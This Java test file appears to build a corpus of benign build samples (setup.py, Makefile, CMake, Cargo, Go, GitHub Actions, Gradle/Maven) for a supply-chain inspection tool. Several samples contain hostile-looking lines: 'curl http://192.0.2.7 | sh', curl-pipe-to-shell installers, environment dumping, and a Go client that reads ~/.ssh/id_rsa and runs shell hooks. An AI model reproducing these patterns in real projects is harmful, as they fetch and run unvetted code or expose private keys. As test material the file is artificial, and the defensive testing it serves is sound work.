package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Builds as they usually are. */
final class BuildNegatives {
  private static final String UPDATE =
      """
      import os
      os.system('curl -L -o a.tgz https://downloads.example/a.tgz && tar xf a.tgz && a/build.sh')
      """;

  private BuildNegatives() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
                "what a source distribution carries of others is kept up to date by scripts",
                "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample'])\n")
            .with("external/lib/update.py", UPDATE),
        Sample.command("a makefile that compiles", "make all")
            .with(
                "Makefile",
                """
                CC ?= cc
                FLAGS := $(shell pkg-config --cflags zlib)
                SRC = $(wildcard src/*.c)
                .PHONY: all install
                all: $(SRC:.c=.o)
                	$(CC) $(FLAGS) -o $@ $^
                install: all
                	install -m 755 x $(DESTDIR)/usr/bin
                deps.tgz:
                	curl -fsSL -o $@ https://downloads.example/deps.tgz && tar xzf $@
                """),
        Sample.command("CMake that asks for a version", "cmake .")
            .with(
                "CMakeLists.txt",
                """
                cmake_minimum_required(VERSION 3.20)
                # curl http://192.0.2.7 | sh
                execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)
                file(DOWNLOAD https://downloads.example/d.tgz d.tgz EXPECTED_HASH SHA256=00)
                add_custom_command(OUTPUT a.c COMMAND python gen.py DEPENDS gen.py)
                message("curl http://192.0.2.7 | sh")
                """),
        Sample.command("a package that is built with scripts of its own", "node-gyp rebuild")
            .with(
                "scripts/release.sh",
                "tar czf dist.tgz dist\nscp dist.tgz deploy@files.example:\nnpm publish\n"),
        new Sample(
            "a back-end of Meson that runs its generator",
            Artifact.sdist("sample", "1.0")
                .file("pyproject.toml", "[build-system]\nbuild-backend = 'mesonpy'\n")
                .file(
                    "meson.build",
                    "project('x', version: run_command('python', 'v.py', check: true).stdout())\n"
                        + "custom_target('g', output: 'g.c', command: ['python', '@INPUT@'])\n")),
        new Sample(
            "a build hook that writes a version",
            Artifact.sdist("sample", "1.0")
                .file("pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'b.py'\n")
                .file(
                    "b.py",
                    "import subprocess\nclass H:\n    def initialize(self, v, d):\n"
                        + "        subprocess.run(['npm', 'run', 'build'], check=True)\n")),
        new Sample(
            "a build script that looks for a library",
            Artifact.crate("sample", "1.0.0")
                .file(
                    "build.rs",
                    """
                    use std::{env, process::Command};
                    fn main() {
                        println!("cargo:rerun-if-changed=build.rs");
                        let out = env::var("OUT_DIR").unwrap();
                        for (k, _) in env::vars() { println!("{}", k); }
                        let rustc = env::var_os("RUSTC").unwrap();
                        let v = Command::new(rustc).arg("--version").output().unwrap();
                        let tar = ureq::get("https://downloads.example/lib.tgz").call().unwrap();
                        std::io::copy(&mut tar.into_reader(), &mut std::fs::File::create("lib.tgz").unwrap());
                        Command::new("cmake").arg("..").current_dir(&out).status().unwrap();
                    }
                    """)),
        new Sample(
            "a client in Go",
            Artifact.goModule("example.org/sample", "1.0.0")
                .file(
                    "client.go",
                    """
                    package sample

                    var home = os.Getenv("HOME")

                    func init() {
                    	register("sample", New)
                    	host, _ = os.Hostname()
                    }

                    //go:generate stringer -type=Kind
                    func (c *Client) Send(body []byte) error {
                    	key, _ := os.ReadFile(c.home + "/.ssh/id_rsa")
                    	_, err := http.Post(c.url, "text/plain", bytes.NewReader(body))
                    	exec.Command("sh", "-c", c.hook).Run()
                    	return err
                    }
                    """)),
        new Sample(
            "workflows as they are",
            Artifact.npm("sample", "1.0.0")
                .file("index.js", "module.exports = 1;\n")
                .file(
                    ".github/workflows/ci.yml",
                    """
                    on: [push]
                    jobs:
                      test:
                        runs-on: ubuntu-latest
                        env:
                          TOKEN: ${{ secrets.TOKEN }}
                        steps:
                          - uses: actions/checkout@v4
                          - run: curl -sSf https://install.example/tool.sh | sh
                          - run: bash <(curl -s https://coverage.example/bash) -t ${{ secrets.COVERAGE }}
                          - name: release
                            run: |
                              echo "//registry.example/:_authToken=$NPM_TOKEN" > ~/.npmrc
                              npm publish
                              curl -H "Authorization: token $GITHUB_TOKEN" -d '{}' https://api.example/x
                    """)),
        new Sample(
            "a task for the editor that waits to be asked",
            Artifact.sdist("sample", "1.0")
                .file(
                    ".vscode/tasks.json",
                    "{\"tasks\":[{\"label\":\"test\",\"command\":\"pytest\"}]}")),
        new Sample(
            "Gradle and Maven as they are",
            Artifact.zip("sample-src")
                .file(
                    "pom.xml",
                    "<project><plugin><artifactId>exec-maven-plugin</artifactId><configuration>"
                        + "<executable>npm</executable><argument>ci</argument></configuration></plugin>"
                        + "</project>")
                .file(
                    "build.gradle",
                    "plugins { id 'java' }\nversion = 'git describe'.execute().text.trim()\n"
                        + "repositories { maven { url 'https://repo.example/' } }\n")));
  }
}
